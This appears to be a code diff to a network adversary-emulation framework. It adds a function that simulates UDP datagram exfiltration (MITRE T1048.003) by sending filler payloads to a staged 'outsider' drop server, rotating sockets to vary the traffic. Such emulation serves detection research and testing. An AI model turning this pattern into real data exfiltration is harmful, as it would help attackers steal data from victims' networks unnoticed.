@@ -92,6 +92,22 @@ def dns_text(
     stage.note(f"DNS tunnel: {answered} of {count} answered")
 
 
+def datagrams(
+    stage: Stage, me: Host, rng: random.Random, *, rate: int = 30_000, seconds: float = 60.0, port: int = 4500
+) -> None:
+    """Data in datagrams of a protocol of its own; the drop acknowledges one in ten. A new socket every few seconds."""
+    address = stage.outsider(rng)
+    stage.start(stage.one("internet"), lambda: servers.udp_sink(stage, address, port, 10), "drop server")
+    stage.sleep(0.3)
+    size = rng.randint(400, 1300)
+    with stage.activity("exfiltration", "T1048.003", "datagrams", [me], [address], "udp", [port]):
+        for _ in range(int(seconds / 5)):
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link, suppress(OSError):
+                for _ in range(max(1, 5 * rate // size)):
+                    link.sendto(wire.filler(size), (address, port))
+                    stage.sleep(size / rate * rng.uniform(0.5, 1.5))
+
+
 def iodine(stage: Stage, me: Host, rng: random.Random, *, seconds: float = 60.0, rate: int = 3_000) -> None:
     """iodine: a tunnel in DNS with data going up inside it."""
     far = stage.one("tunnel")
